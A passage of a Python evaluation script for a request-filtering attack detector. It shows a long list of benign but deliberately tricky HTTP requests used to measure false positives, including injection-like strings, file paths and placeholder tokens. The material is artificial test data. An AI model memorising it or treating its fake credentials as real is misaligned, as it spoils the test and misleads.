        get(b, "/api/v2/articles", raw="filter[status]=active&filter[created_at][gte]=2026-01-01&sort=-created_at&page[size]=50&include=author,comments.author&fields[articles]=title,body"),
        get(b, "/odata/Products", raw="$filter=Price%20gt%2020%20and%20Category%20eq%20'Books'&$orderby=Name%20desc&$top=10&$select=Name,Price"),
        get(b, "/odata/People", raw="$filter=startswith(LastName,'O''Brien')&$count=true"),
        get(b, "/api/v2/map", {"bbox": "-74.25,40.49,-73.70,40.91", "zoom": "12"}),
        get(b, "/api/v2/theme", {"color": "#ff0000", "font": "'Helvetica Neue', Arial, sans-serif"}),
        get(b, "/api/v2/landing", {"utm_source": "newsletter", "utm_medium": "email", "utm_campaign": "black-friday_2026"}),
        js(b, "/api/v2/events", {"ts": "2026-12-03T10:15:30+01:00", "date": "03/12/2026", "label": "Dec 3, 2026 10:00 AM"}),
        Req(b, "GET", "/api/v2/orders/918273645546372819", {}),
        get(b, "/api/v2/orders", {"after_id": "9007199254740993", "limit": "100"}),
        js(b, "/api/v2/prices", {"eur": "€1.234,56", "usd": "$1,299.00", "jpy": "¥5000", "gbp": "£12.50 + VAT"}, ascii_only=False),
        js(b, "/api/v2/notes", {"math": ["2*(3+4)=14", "x^2 + y^2 = r^2", "f(x) = sin(x)/x", "10 % 3 = 1", "a != b", "1e-9", "(a+b)*(c-d)"]}),
        js(b, "/api/v2/config", {"schedule": "*/5 * * * *", "version_range": ">=1.2.3 <2.0.0 || ^3.0.0", "path_data": "M10 10 L20 20 Z"}),
        js(b, "/api/v2/i18n", {"greeting": "Hello {name}, welcome back!", "items": "{count, plural, one {# item} other {# items}}", "total": "Total: ${amount}"}),
        js(b, "/api/v2/templates", {"html": "{{#if user}}Hi {{user.firstName}}{{else}}Hi there{{/if}}"}),
        js(b, "/api/v2/themes", {"css": "body { font-family: 'Helvetica Neue', Arial; color: #333; }\na:hover { text-decoration: underline; }"}),
        js(b, "/api/v2/pages", {"html": '<p>Hello <b>world</b></p><ul><li>One</li><li>Two &amp; three</li></ul>'}),
        js(b, "/api/v2/pages", {"html": '<p>See <a href="https://example.com/docs" target="_blank" rel="noopener">the docs</a>.</p><img src="https://cdn.example.com/a.png" alt="Diagram">'}),
        js(b, "/api/v2/pages", {"html": "<h2>Release notes</h2><blockquote>Fixed: escape &lt;script&gt; in comments</blockquote><table><tr><td>1</td></tr></table>"}),
        js(b, "/api/v2/pages", {"html": "<p>Use <code>SELECT 1</code> to test the connection.</p>"}),
        js(b, "/api/v2/profile", {"image": "data:image/jpeg;base64," + b64(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)) * 6)}, "PUT"),
        get(b, "/api/v2/share", {"state": b64('{"theme":"dark","lang":"en"}')}),
        get(b, "/api/v2/share", {"msg": b64("Hello world; it's me, Zoe!")}),
        js(b, "/api/v2/webhooks/github", {"ref": "refs/heads/main", "commits": [
            {"message": "Fix SQL injection in search (use bound params)", "url": "https://github.com/o/r/commit/abc123"},
            {"message": "Escape <script> tags in comments; add CSP", "url": "https://github.com/o/r/commit/def456"}]}),
        js(b, "/api/v2/errors", {"exception": {"values": [{"type": "TypeError", "value": "Cannot read properties of undefined (reading 'map')",
                                                          "stacktrace": {"frames": [{"filename": "app.js", "function": "render", "lineno": 42}]}}]}}),
        js(b, "/api/v2/tickets", {"body": "Installer log: C:\\Users\\Zoë\\AppData\\Local\\Temp\\setup.log says 'access denied'"}, ascii_only=False),
        js(b, "/api/v2/exports", {"rows": [["name", "delta"], ["Widget", "-15.5"], ["Gadget", "+3"], ["Sum", "=SUM(B2:B3)"]]}),
        js(b, "/api/v2/docs", {"md": "| Command | What |\n|---|---|\n| `ls` | list |\n| `rm -rf node_modules` | clean |\n"}),
        js(b, "/api/v2/feedback", {"text": "Your app is <3 -- but the 'Save' button > 2 clicks away is annoying"}),
        js(b, "/api/v2/tasks", {"title": "Migrate cron jobs", "steps": ["ssh deploy@web-1", "crontab -l > backup.txt", "edit & reload"]}),
        js(b, "/api/v2/recipes", {"title": "Mac & cheese", "steps": "Boil water; add pasta; drain -- then stir in cheese."}),
        js(b, "/api/v2/analytics", {"events": [{"name": "page_view", "props": {"path": "/pricing", "referrer": "https://www.google.com/"}}] * 3}),
        js(b, "/api/v2/devices", {"user_agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1"}),
        js(b, "/api/v2/translations", {"fr": "L'été dernier, j'ai visité l'Île-de-France", "de": "Größe: 10\u201312", "ja": "「こんにちは」と言った"}, ascii_only=False),
        js(b, "/api/v2/notes", {"text": "Reminder: the password reset link expires in 24h; don't share it."}),
        js(b, "/api/v2/support", {"text": "Error: ENOENT: no such file or directory, open './config/local.json'"}),
        js(b, "/api/v2/jobs", {"command": "python manage.py migrate --noinput", "env": {"DJANGO_SETTINGS_MODULE": "app.settings.prod"}}),
        js(b, "/api/v2/snippets", {"lang": "bash", "code": "#!/usr/bin/env bash\nset -euo pipefail\necho \"Deploying $1\"\n"}),
        js(b, "/api/v2/snippets", {"lang": "python", "code": "import os\nprint(os.environ.get('HOME'))\n"}),
        js(b, "/api/v2/notes", {"text": "Ｈｅｌｌｏ from Tokyo! Steps: ① sign up ② verify ③ enjoy; area = x² + y²; ﬁnance ™"}, ascii_only=False),
        js(b, "/api/v2/issues", {"body": "Stack:\njava.io.FileNotFoundException: /data/in.csv (No such file or directory)\n\tat java.base/java.io.FileInputStream.open0(Native Method)\n\tat java.base/jdk.internal.reflect.NativeMethodAccessorImpl.invoke0(Native Method)\n\tat java.base/java.lang.reflect.Method.invoke(Method.java:568)"}),
        js(b, "/api/v2/issues", {"body": "Fails with `javax.naming.NameNotFoundException: jdbc/app` on Tomcat 10"}),
        js(b, "/api/v2/issues", {"body": "Mount the code with `-v \"$(pwd)\"/src:/app/src` and the cache with `-v $(pwd)/.cache:/root/.cache`"}),
        js(b, "/api/v2/docs", {"md": "| Tool | Use |\n|---|---|\n| `whoami` | current user |\n| `id -u` | uid |\n| `cat /etc/os-release` | distro |\n"}),
        js(b, "/api/v2/tickets", {"body": "PowerShell: how do I list services? Bash, zsh, fish: which one do you support?"}),
        js(b, "/api/v2/notes", {"text": "/etc/passwd is world-readable on most distros; /etc/shadow is not."}),
        get(b, "/api/v2/search", {"q": "/var/log/syslog rotation"}),
        js(b, "/api/v2/snippets", {"lang": "sql", "code": "SELECT o.id, SUM(l.qty) FROM orders o JOIN lines l ON l.order_id = o.id GROUP BY o.id;"}),
    ]

    r += [
        js(b, "/api/v2/docs", {"md": "Set host aliases in ~/.ssh/config; see `man ssh_config`.\n<!-- TODO: screenshots -->"}),
        js(b, "/api/v2/notes", {"tex": "\\frac{a}{b} + \\sqrt{2} \\leq \\sum_{i=1}^{n} x_i"}),
        get(b, "/api/v2/issues", {"q": "status:open AND (assignee:me OR assignee:none) -label:wontfix"}),
        get(b, "/rest/api/2/search", {"jql": 'project = "APP" AND status IN ("To Do", "In Progress") ORDER BY created DESC', "maxResults": "50"}),
        get(b, "/api/v2/search/issues", {"q": "repo:org/app is:pr is:open author:@me"}),
        js(b, "/api/v2/logs/query", {"query": "requests | where timestamp > ago(1h) | summarize count() by resultCode"}),
        js(b, "/api/v2/logs/search", {"search": "index=main sourcetype=access_* status=500 | stats count by uri"}),
        get(b, "/api/v1/query", {"query": 'sum(rate(http_requests_total{job="api",code=~"5.."}[5m])) by (instance)'}),
        gql(b, "query Hero($episode: Episode, $withFriends: Boolean!) { hero(episode: $episode) { name friends @include(if: $withFriends) { name } } }",
            {"episode": "JEDI", "withFriends": False}),
        js(b, "/api/v2/search", {"query": {"query_string": {"query": "title:(quick OR brown) AND NOT status:deleted"}}}),
        js(b, "/api/v2/webhooks", {"url": "https://example.com:8443/hooks?token=abc&v=1"}),
        js(b, "/api/v2/firewall/rules", {"ip": "203.0.113.42", "allowlist": ["192.168.1.0/24", "10.0.0.0/8"], "action": "allow"}),
        js(b, "/api/v2/services", {"db": {"host": "localhost", "port": 5432, "name": "app_dev"}}),
        js(b, "/api/v2/pipelines", {"steps": [{"run": "npm ci"}, {"run": "npm run build -- --watch=false"}]}),
        js(b, "/api/v2/files", {"name": "Dockerfile", "content": "FROM python:3.12-slim\nRUN pip install -r requirements.txt\nCMD [\"gunicorn\", \"app:app\"]\n"}),
        js(b, "/api/v2/deployments", {"manifest": "containers:\n  - name: init\n    image: busybox:1.36\n    command: [\"/bin/sh\", \"-c\", \"echo hello\"]\n"}),
        js(b, "/api/v2/profile", {"phone": "+1 (555) 010-9999 #2", "address": "Flat 3/4, 12 O'Connell St.; Dublin 1"}, "PATCH"),
        js(b, "/api/v2/products", {"name": 'Apple iPhone 15 Pro (256 GB) - "Natural Titanium"'}),
        js(b, "/api/v2/tickets", {"body": "Crash when starting C:\\Program Files (x86)\\App\\bin\\app.exe --safe-mode"}),
        js(b, "/api/v2/tickets", {"body": "Fixed it by deleting %APPDATA%\\MyApp\\cache and restarting"}),
        js(b, "/api/v2/account/password", {"current": "x7$Kq!9'vZ<m&3;R", "new": "\"8uF|n'Wq-2(mQ3$^s{8}z", "confirm": "\"8uF|n'Wq-2(mQ3$^s{8}z"}, "PUT"),
        js(b, "/api/v2/account/password", {"current": "correct horse; battery staple", "new": "p@ss' or w0rd!", "confirm": "p@ss' or w0rd!"}, "PUT"),
        get(b, "/api/v2/oauth/callback", {"code": "SplxlOBeZQQYbYS6WxSbIA", "state": b64('{"return_to":"/settings","nonce":"n-0S6_WzA2Mj"}')}),
        multipart(b, "/api/v2/uploads", [("file", b"PK\x03\x04" + bytes(64), "~$report.docx", "application/octet-stream")]),
        multipart(b, "/api/v2/uploads", [("file", b"notes", "notes (copy).md", "text/markdown")]),
        hdr(b, {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36",
                "X-Forwarded-For": "10.1.2.3", "X-Forwarded-Proto": "https", "Forwarded": "for=192.0.2.60;proto=http;by=203.0.113.43"}),
        hdr(b, {"Authorization": "SharedAccessSignature sr=https%3A%2F%2Fmyns.servicebus.windows.net%2Fq&sig=abc%2Bdef%3D&se=1700000000&skn=RootManageSharedAccessKey"}),
        hdr(b, {"Authorization": 'Hawk id="dh37fgj492je", ts="1353832234", nonce="j4h3g2", ext="some-app-ext-data", mac="6R4rV5iE+NPoym+WwjeHzjAGXUtLNIxmo1vpMofpLAE="'}),
        hdr(b, {"Authorization": "Negotiate YIIGhgYGKwYBBQUCoIIGejCCBnagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCqKCBkAEggY8"}),
        js(b, "/api/v2/notes", {"text": "مرحبا 👋 — שלום — नमस्ते — ข้อความ — Ελληνικά"}, ascii_only=False),
    ]

    for name in ["report (1).pdf", "Q3 results - final (v2).xlsx", "photo_2026-12-03 at 10.15.32.jpg", "my.file.name.tar.gz", "résumé.docx"]:
        r.append(multipart(b, "/api/v2/uploads", [("description", f"Uploading {name} -- see 'notes'", None, None),
                                                  ("file", b"%PDF-1.7\n" + bytes(range(200)), name, "application/octet-stream")]))
    r.append(get(b, "/api/v2/files", {"name": "report (1).pdf"}))
    r.append(Req(b, "GET", "/api/v2/files/report%20(1).pdf", {}))
    r.append(Req(b, "GET", "/api/v2/tags/c%2B%2B/posts", {}))
    r.append(Req(b, "GET", "/api/v2/search/rock%20%26%20roll", {}))

    r += [
        xml(b, "/soap/PriceService", '<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice><Item>O\'Reilly book -- "Learning SQL"</Item></GetPrice></soap:Body></soap:Envelope>', "text/xml"),
        xml(b, "/api/v2/notes", "<note><to>Tove</to><from>Jani</from><body>Don't forget me this weekend! Select a time &amp; place.</body></note>"),
        xml(b, "/api/v2/feeds", '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Blog</title><entry><title>Union Station reopens</title><link href="https://example.com/a"/></entry></feed>'),
        xml(b, "/api/v2/icons", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" fill="#f00"/></svg>', "image/svg+xml"),
        multipart(b, "/api/v2/icons", [("icon", '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>', "icon.svg", "image/svg+xml")]),
        gql(b, "query Search($q: String!, $first: Int) { search(query: $q, first: $first) { edges { node { ... on Product { id name price } } } } }",
            {"q": "men's shoes -sandals", "first": 20}),
        gql(b, "mutation CreatePost($input: PostInput!) { createPost(input: $input) { id slug } }",
            {"input": {"title": "Why I don't use ORMs", "body": "Plain SQL (`SELECT ... FROM ... WHERE`) is fine; just use parameters.", "tags": ["sql", "opinion"]}}),
        gql(b, '{ user(login: "octocat") { repositories(first: 5, orderBy: {field: STARGAZERS, direction: DESC}) { nodes { name } } } }'),
    ]

    jwt = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMyJ9.eyJzdWIiOiJ1c2VyXzQyIiwiaWF0IjoxNzAwMDAwMDAwLCJzY29wZSI6InJlYWQ6b3JkZXJzIn0.dGhpc2lzbm90YXJlYWxzaWduYXR1cmVidXRsb29rc2xpa2VvbmU"
    browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
    r += [
        hdr(b, {"Authorization": f"Bearer {jwt}"}, "/api/v2/me"),
        hdr(b, {"Authorization": "Basic " + b64("o'brien@example.com:p@ss w0rd;--")}, "/api/v2/me"),
        hdr(b, {"X-Api-Key": "sk_live_51HxYzABcdEF0123456789abcdef", "X-Api-Version": "2024-10-01"}),
        hdr(b, {"X-Auth-Token": "3f9a6c0e-8d2b-4e71-9a55-0c1d2e3f4a5b", "X-Request-Id": "req_01HF3Z5K9Q"}),
        hdr(b, {"Authorization": 'Digest username="o\'brien", realm="api@example.com", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", uri="/api/v2/me?fields=name,email", qop=auth, nc=00000001, cnonce="0a4f113b", response="6629fae49393a05397450978507c4ef1", opaque="5ccc069c403ebaf9f0171e9517f40e41"'}, "/api/v2/me"),
        hdr(b, {"Authorization": "AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20261203/us-east-1/s3/aws4_request, SignedHeaders=host;range;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024"}, "/api/v2/me"),
        hdr(b, {"Authorization": 'OAuth oauth_consumer_key="xvz1evFS4wEEPTGEFPHBog", oauth_nonce="kYjzVBB8Y0ZFabxSWbWovY3uYSQ2pTgmZeNu2VS4cg", oauth_signature="tnnArxj06cWHq44gCs1OSKk%2FjLY%3D", oauth_signature_method="HMAC-SHA1", oauth_timestamp="1318622958", oauth_token="370773112-GmHxMAgYyLbNEtIKZeRNFsMKPR9EyMZeS9weJAEb", oauth_version="1.0"'}, "/api/v2/me"),
        hdr(b, {"Authorization": "Bearer ya29.a0AfB_byC-1x2y3z_4//5+6/abcDEF0123456789=="}, "/api/v2/me"),
        hdr(b, {"Authorization": "Token token=\"abc123\", user_id=\"42\""}, "/api/v2/me"),
        hdr(b, {"User-Agent": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}),
        Req(b, "GET", "/.well-known/security.txt", {}),
        Req(b, "GET", "/.well-known/openid-configuration", {}),
        hdr(b, {"User-Agent": "MyApp/3.2.1 (iPhone; iOS 17.1; Scale/3.00)"}),
        hdr(b, {"User-Agent": "okhttp/4.12.0"}),
        hdr(b, {"User-Agent": "Dart/3.2 (dart:io)"}),
        hdr(b, {"User-Agent": "PostmanRuntime/7.36.0"}),
        hdr(b, {"User-Agent": "curl/8.4.0"}),
        hdr(b, {"User-Agent": "python-requests/2.31.0"}),
        hdr(b, {"User-Agent": "Apache-HttpClient/4.5.14 (Java/17.0.9)"}),
        hdr(b, {"User-Agent": browser, "Referer": "https://www.google.com/search?q=site%3Aexample.com+%22return+policy%22"}),
        hdr(b, {"User-Agent": browser, "Referer": "https://app.example.com/orders?id=1&tab=details"}),
        hdr(b, {"X-Forwarded-For": "203.0.113.7, 10.0.0.2", "X-Real-IP": "203.0.113.7"}),
        hdr(b, {"X-Forwarded-For": "2001:db8::1"}),
        hdr(b, {"Cookie": f"_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; session={jwt}"}),
        hdr(b, {"Cookie": "cart=%7B%22items%22%3A%5B1%2C2%5D%7D; prefs=theme:dark|lang:en; consent=analytics%3D1%26ads%3D0"}),
        hdr(b, {"Cookie": "last_search=O'Brien & Sons; tz=Europe/Paris"}),
        hdr(b, {"If-Match": '"33a64df551425fcc55e4d42a148795d9f25f89d4"', "Idempotency-Key": "a1b2c3d4-order-6735"}),
        hdr(b, {"X-Filename": "report (1).pdf", "Content-Disposition": 'attachment; filename="report (1).pdf"'}),
        get(b, "/api/v2/verify", {"token": jwt}),
        Req(b, "GET", "/api/v2/users/me/orders?status=shipped&since=2026-11-01T00:00:00Z", {"Authorization": f"Bearer {jwt}"}),
        Req(b, "DELETE", "/api/v2/carts/77/items/3", {"Authorization": f"Bearer {jwt}"}),
        Req(b, "HEAD", "/api/v2/health", {}),
        Req(b, "OPTIONS", "/api/v2/orders", {"Origin": "https://app.example.com", "Access-Control-Request-Method": "POST"}),
        js(b, "/api/v2/orders", {"items": [{"sku": f"SKU-{i:05d}", "qty": i % 4 + 1, "note": "gift wrap; no receipt" if i == 3 else ""} for i in range(12)],
                                 "shipping": {"name": "Siobhán O'Sullivan", "line1": "12 Rue de l'Église", "city": "Québec", "zip": "G1R 4P5"}}, ascii_only=False),
    ]
    return r


def main() -> None:
    evaluate(attack_requests(), benign_requests(), __doc__)


if __name__ == "__main__":
    main()
